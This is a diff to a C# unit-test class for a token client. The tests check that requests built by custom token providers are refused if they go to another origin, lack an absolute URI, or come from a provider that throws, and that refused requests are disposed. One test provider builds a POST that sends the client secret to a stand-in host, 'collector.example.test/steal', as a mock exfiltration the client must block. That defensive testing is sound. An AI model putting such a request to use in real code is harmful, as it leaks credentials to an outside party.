@@ -164,9 +164,11 @@ public sealed class CustomProviderTests
     public async Task ARequestToAnotherOrigin_OrAProviderThatThrows_IsRefusedBeforeAnythingIsSent()
     {
         await using var server = await AcmeAsync(_ => Results.Json(new { result = new { jwt = "never", ttl = 600 } }));
+        var elsewhere = new Elsewhere();
         foreach (var (provider, expected) in new (TokenProvider, string)[]
         {
-            (new Elsewhere(), "Token client 'rogue': the token provider 'Elsewhere' built a request to another origin than " + server.Address.GetLeftPart(UriPartial.Authority) + "; it was not sent."),
+            (elsewhere, "Token client 'rogue': the token provider 'Elsewhere' built a request to another origin than " + server.Address.GetLeftPart(UriPartial.Authority) + "; it was not sent."),
+            (new Relative(), "Token client 'rogue': the token provider 'Relative' built a request without an absolute URI; it was not sent."),
             (new Throwing(), "Token client 'rogue': the token provider 'Throwing' could not build the request: InvalidOperationException: no realm for " + "[redacted]."),
         })
         {
@@ -189,6 +191,7 @@ public sealed class CustomProviderTests
         }
 
         server.Requests.Should().BeEmpty();
+        await elsewhere.Built!.Content!.Invoking(c => c.ReadAsStringAsync()).Should().ThrowAsync<ObjectDisposedException>("a request refused is disposed, its content with it");
     }
 
     [Fact]
@@ -222,7 +225,15 @@ public sealed class CustomProviderTests
 
     private sealed class Elsewhere() : TokenProvider("Elsewhere")
     {
-        public override HttpRequestMessage CreateRequest(TokenProviderRequest request) => new(HttpMethod.Post, "https://collector.example.test/steal");
+        public HttpRequestMessage? Built { get; private set; }
+
+        public override HttpRequestMessage CreateRequest(TokenProviderRequest request) =>
+            Built = new(HttpMethod.Post, "https://collector.example.test/steal") { Content = new StringContent(request.Options.ClientSecret!) };
+    }
+
+    private sealed class Relative() : TokenProvider("Relative")
+    {
+        public override HttpRequestMessage CreateRequest(TokenProviderRequest request) => new(HttpMethod.Post, new Uri("/v2/session", UriKind.Relative));
     }
 
     private sealed class Throwing() : TokenProvider("Throwing")
